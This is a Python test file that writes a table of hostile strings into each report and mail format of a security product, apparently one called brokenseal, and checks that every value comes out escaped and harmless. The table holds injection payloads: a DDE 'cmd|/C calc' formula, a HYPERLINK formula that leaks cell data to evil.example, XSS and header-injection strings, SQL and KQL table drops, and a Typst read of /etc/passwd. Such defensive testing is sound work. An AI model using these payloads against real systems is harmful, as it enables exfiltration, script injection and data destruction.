"""Hostile values against every format that the product writes: one table of values and formats.

A value is written where such text really comes from (subject, folder, rule, mailbox, program, file name, organisation)
and read back by a reader of the format's own kind. Harmless means, in every format:

- it says what it said: all that can be seen of the value is there (or it was withheld, where formats may withhold);
- nothing in it acts unseen: no control character, no change of direction, nothing without width, no half of a pair;
- it changes no structure: the output has the elements, attributes, links, cells and headers that it has with plain
  words in place of the values;
- it starts no formula where a spreadsheet may read it.
"""

import functools
import io
import json
import re
from collections import Counter

import pytest
from rich.console import Console

from brokenseal.exchange import FORMATS as SHARED
from brokenseal.model import Reading
from brokenseal.notices.mail import mail_bytes
from brokenseal.reports import REPORTERS, terminal
from exchange import test_formats as exchanged
from notices.post_office import parsed
from notices.test_hostile_notices import hostile_plan
from notices.victims import NOW, SENDER
from read_back import comma_separated, markdown, page, printed, word_document, workbook
from reports.documents import hostile_document

# Each value holds a word by which it is found again; the word survives every escaping.
VALUES = {
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"zq01x")',
    "formula, plus": "+zq02x+1",
    "formula, minus": "-zq03x+3",
    "formula, at": "@SUM(zq04x)*cmd|' /C calc'!A0",
    "formula, tab": "\t=zq05x",
    "formula, carriage return": "\r=zq06x",
    "formula, exchange of data": "=cmd|'/C calc'!zq07x",
    "formula, split": "zq08x;=1+1,=2+2|@x",
    "formula, full width": "\N{FULLWIDTH EQUALS SIGN}zq09x",
    "HTML script": "<script>alert('zq10x')</script>",
    "HTML attribute": '" onmouseover="zq11x()" x="',
    "HTML, single quotes": "' onfocus='zq12x()' autofocus x='",
    "HTML element": "\"'><img src=x onerror=zq13x()>",
    "HTML comment": "--><!-- zq14x ]]>&lt;&#60;",
    "HTML, end of script": "</script></style></title><iframe src=//zq15x>",
    "Markdown link": "](javascript:zq16x) ![x](http://evil.example/x.png) [a]: http://e.example",
    "Markdown code": "`zq17x` ``` | pipe | **bold** ~~x~~",
    "Markdown autolink": "<https://evil.example/zq18x> # heading",
    "Typst evaluation": '#eval("1+1") #panic("zq19x") */ // /*',
    "Typst equation": "$x^2$ @zq20x <label> _a_ *b* `c`",
    "Typst backslash": '\\ \\u{202e} #import "@preview/zq21x:1.0.0" \\',
    "Typst string": '"] #read("/etc/passwd") ["zq22x',
    "right to left override": "zq23x\u202efdp.exe",
    "isolates": "\u2066zq24x\u2069\u2069\u2068",
    "without width": "zq25xpay\u200bpal\ufeff\u00ad\u2060",
    "Hebrew": "zq26x \u05e9\u05dc\u05d5\u05dd 1-2",
    "terminal colours": "\x1b[2J\x1b[31mzq27x\x9b31m",
    "terminal link": "\x1b]8;;http://evil.example\x07zq28x\x1b]8;;\x1b\\",
    "controls": "zq29x\x08\x08\x07\x0c\x0b\x7f",
    "line breaks": "zq30x\r\nnext\u2028line\x85x",
    "header": "zq31x\r\nBcc: everybody@evil.example\r\n\r\n<b>body</b>",
    "encoded word": "=?utf-8?q?zq32x?= <x@evil.example>, y@evil.example",
    "boundary": "zq33x\r\n--===============0==\r\nContent-Type: text/html",
    "SQL": "zq34x'; DROP TABLE events; --",
    "JSON": 'zq35x"}],"type":"x","a":[{"b":"\\',
    "YAML": "zq36x\n---\ntitle: other\ncondition: not selection #",
    "YAML signs": "- &a zq37x: [ } * ! | > ' % @ `",
    "KQL": 'zq38x"]); database("*").Secrets | project * //',
    "KQL line": "zq39x\n.drop table OfficeActivity",
    "STIX pattern": "zq40x'] OR [ipv4-addr:value = '192.0.2.1",
    "STIX backslash": "zq41x\\' OR '1' = '1\\",
    "Sigma wildcards": "*zq42x?\\*\\?",
    "NUL": "zq43x\x00byte",
    "half of a pair": "zq44x\ud800 alone",
    "no character": "zq45x\ufffe\uffff\U000e0041",
    "templates": "{{7*7}} {% raw %} ${zq46x} %s %(x)s {0} {name}",
    "terminal markup": "[bold red]zq47x[/] [link=http://evil.example]x[/link]",
    "address of a script": "javascript:alert(1)//zq48x",
    "path": "../../zq49x\\..\\x",
    "a megabyte": "zq50x rule name " * 65_536,
}
WORDS = {name: re.search(r"zq\d\dx", text)[0] for name, text in VALUES.items()}
PLAIN = {name: word + "y" * (len(VALUES[name]) > 100_000) for name, word in WORDS.items()}

UNSEEN = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u00ad\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u2069\ufeff\ud800-\udfff"
    "\ufffe\uffff\U000e0000-\U000e0fff]"
)
ISOLATED = re.compile("\u2068([^\u2066-\u2069]*)\u2069")
# What may stand for something unseen, or be put beside a value: marks, white space, and the ' before a formula.
PUT_IN = re.compile("[\\s\ufffd\u21b5'\\\\]|\u00ad")
FORMULA = re.compile('^[\\s"]*[=+\\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]')
LACKING = re.compile("[\uff1d\u05d0-\u05ea]")
"""Characters that the fonts of print do not have."""
LONG = 100
REPORTS = {reporter.name: reporter for reporter in REPORTERS}
SHARES = {form.name: form for form in SHARED}


def bare(text):
    """What can be seen of a text, and nothing of how it is set."""
    return PUT_IN.sub("", UNSEEN.sub("", text))


# ---------------------------------------------------------------- formats: values in, texts and structure out


def report(form, read, **reading):
    """All values in one document."""

    def made(values):
        document = hostile_document(tuple(values.values()))
        reporter = REPORTS[form]
        render = reporter.render_for
        return read(render(document, "en", Reading(**reading)) if render else reporter.render(document, "en"))

    return made


def screen(values):
    out = io.StringIO()
    console = Console(file=out, width=600, color_system="truecolor", force_terminal=True, legacy_windows=False)
    document = hostile_document(tuple(values.values()))
    for each in (
        terminal.closing_screen(document, "en"),
        terminal.detection_screen(document, "en"),
        terminal.exposure_screen(document.exposure, "en"),
        terminal.coverage_screen(document.coverage, "en"),
    ):
        console.print(each)
    written = out.getvalue()
    # Colours are ours; any other sequence would stay, and is found as a character that acts unseen.
    return re.sub("\x1b\\[[\\d;]*m", "", written).split("\n"), Counter()


def json_texts(content):
    return exchanged.strings_of(json.loads(content)), Counter()


def table(content):
    return comma_separated(content.decode("utf-8-sig"))


def pdf_names(content):
    """The text as one, and which names there are: what runs, opens, sends or is attached has a name of its own."""
    texts, names = printed(content)
    acting = {
        "/JS", "/JavaScript", "/Launch", "/URI", "/AA", "/OpenAction", "/GoToR", "/GoToE", "/SubmitForm", "/ImportData",
        "/EmbeddedFile", "/EmbeddedFiles", "/Filespec", "/RichMedia", "/Movie", "/Sound", "/AcroForm", "/XFA", "/Rendition",
    }  # fmt: skip
    return ["".join(texts).replace("\u00ad", "")], Counter(
        {name.decode(): count for name, count in names.items() if name.decode() in acting}
    )


@functools.cache
def letter(name, *, plain=False):
    """A letter with its attachments as it is sent, for one value: it names the value's owner in headers too."""
    plan = hostile_plan((PLAIN if plain else VALUES)[name])
    (notice,) = plan.notices
    return parsed(mail_bytes(notice.letters[0], notice, SENDER, at=NOW))


def parts(name, kind, *, plain):
    mail = letter(name, plain=plain)
    return mail, [part for part in mail.walk() if part.get_content_type() == kind]


def headers(name, *, plain):
    mail, _ = parts(name, "text/plain", plain=plain)
    inner = [f"{key}: {value}" for part in mail.walk() for key, value in part.items() if key != "Content-Type"]
    assert [part.defects for part in mail.walk() if part.defects] == []
    names = Counter(key for part in mail.walk() for key in part)
    names.update(part.get_content_type() for part in mail.walk())
    names.update(address.addr_spec for key in ("From", "To", "Reply-To") for address in mail[key].addresses)
    return inner, names


def mail_text(name, *, plain):
    _, found = parts(name, "text/plain", plain=plain)
    # One text: lines are folded where they are long.
    return ["\n".join(part.get_content().replace("\r\n", "\n") for part in found)], Counter()


def mail_page(name, *, plain):
    _, (found,) = parts(name, "text/html", plain=plain)
    return page(found.get_content().replace("\r\n", "\n"))


def mail_table(name, *, plain):
    _, found = parts(name, "text/csv", plain=plain)
    assert found
    texts, structure = [], Counter()
    for part in found:
        content = part.get_content()
        cells, rows = table(content.encode() if isinstance(content, str) else content)
        texts, structure = texts + cells, structure + rows
    return texts, structure


def shared(form):
    """What is shared of a document of one value: the table's own reader for each format refuses a changed structure."""

    def made(name, *, plain):
        text = (PLAIN if plain else VALUES)[name]
        document, chosen = sharing(text)
        content = SHARES[form].render(document, chosen)
        return [*exchanged.READERS[form](content, chosen)], Counter()

    return made


@functools.cache
def sharing(text):
    document = exchanged.hostile(text)
    return document, exchanged.share(document, exchanged.VICTIM).shared


# All values in one output.
TOGETHER = {
    "HTML": report("html", lambda content: page(content.decode())),
    "HTML for counsel": report("html", lambda content: page(content.decode()), reader="counsel"),
    "Markdown": report("md", markdown),
    "Markdown for counsel": report("md", markdown, reader="counsel"),
    "JSON": report("json", json_texts),
    "XLSX": report("xlsx", workbook),
    "CSV": report("csv", table),
    "PDF": report("pdf", pdf_names),
    "PDF for management": report("pdf", pdf_names, reader="management"),
    "DOCX": report("docx", word_document),
    "terminal": screen,
}
# One output for each value.
APART = {
    "mail, headers": headers,
    "mail, text": mail_text,
    "mail, HTML": mail_page,
    "mail, CSV": mail_table,
    **{f"shared {form}": shared(form) for form in SHARES},
}
SPREADSHEETS = {"XLSX", "CSV", "mail, CSV", "shared csv", "shared timesketch-csv"}
# Formats that show a part of the values only: headers name nobody's subject, sharing withholds what cannot be quoted.
MAY_LACK = {"PDF for management", "mail, headers", "mail, text", "mail, HTML", *(f"shared {form}" for form in SHARES)}
# JSON is data for programs and holds the text exactly; what cannot be written in UTF-8 is marked.
EXACT = {"JSON"}


@functools.cache
def read(form, *, plain):
    return TOGETHER[form](PLAIN if plain else VALUES)


def acting(texts):
    """Texts that act unseen."""
    return [text[:200] for text in texts if UNSEEN.search(ISOLATED.sub("\\1", text))]


@pytest.mark.parametrize("form", TOGETHER)
def test_values_change_no_structure(form):
    texts, structure = read(form, plain=False)
    plain = read(form, plain=True)[1]
    assert (structure - plain, plain - structure) == (Counter(), Counter())
    assert form in EXACT or acting(texts) == []
    assert form not in SPREADSHEETS or [text[:200] for text in texts if FORMULA.match(text)] == []


@pytest.mark.parametrize("form", [*TOGETHER, *APART])
@pytest.mark.parametrize("name", VALUES)
def test_a_hostile_value_is_harmless(name, form):
    texts = texts_of(name, form)
    found = [text for text in texts if WORDS[name] in text]
    if form not in MAY_LACK:
        assert found
    if form in EXACT:
        assert VALUES[name].replace("\ud800", "\ufffd") in found
        return
    wanted = bare(LACKING.sub("", VALUES[name]) if form.startswith("PDF") else VALUES[name])[:LONG]
    if found and not form.startswith("shared"):
        assert [text for text in found if wanted in bare(text)]
    if form in APART:
        assert acting(texts) == []
        assert form not in SPREADSHEETS or [text[:200] for text in texts if FORMULA.match(text)] == []


def texts_of(name, form):
    if form in TOGETHER:
        return read(form, plain=False)[0]
    texts, structure = APART[form](name, plain=False)
    # An attachment of queries is left out where nothing can be quoted; nothing may be put in.
    assert structure - APART[form](name, plain=True)[1] == Counter()
    return texts


@pytest.mark.parametrize("form", [*TOGETHER, *APART])
def test_the_reader_of_the_table_sees_plain_words(form):
    """A reader that saw nothing would find everything harmless."""
    if form in TOGETHER:
        texts = " ".join(read(form, plain=True)[0])
        seen = [word for word in WORDS.values() if word in texts]
        assert len(seen) >= (len(WORDS) if form not in MAY_LACK else 1)
    else:
        seen = [text for text in APART[form]("formula", plain=True)[0] if WORDS["formula"] in text]
        assert bool(seen) != (form in {"mail, headers", "shared navigator"})


def test_the_table_has_every_format():
    written = {form.split(" ")[0].removeprefix("Markdown") for form in TOGETHER}
    assert {{"md": ""}.get(name, name.upper()) for name in REPORTS} == written - {"terminal"}
    assert {form.removeprefix("shared ") for form in APART if form.startswith("shared")} == {*SHARES}


def test_csv_files_hold_what_a_program_reads():
    """A file that another separator would split starts no formula in any piece."""
    content = REPORTS["csv"].render(hostile_document(tuple(VALUES.values())), "en").decode("utf-8-sig")
    for separator in ";|\t":
        assert [piece[:80] for piece in re.split(f"[{separator},]", content) if FORMULA.match(piece)] == []
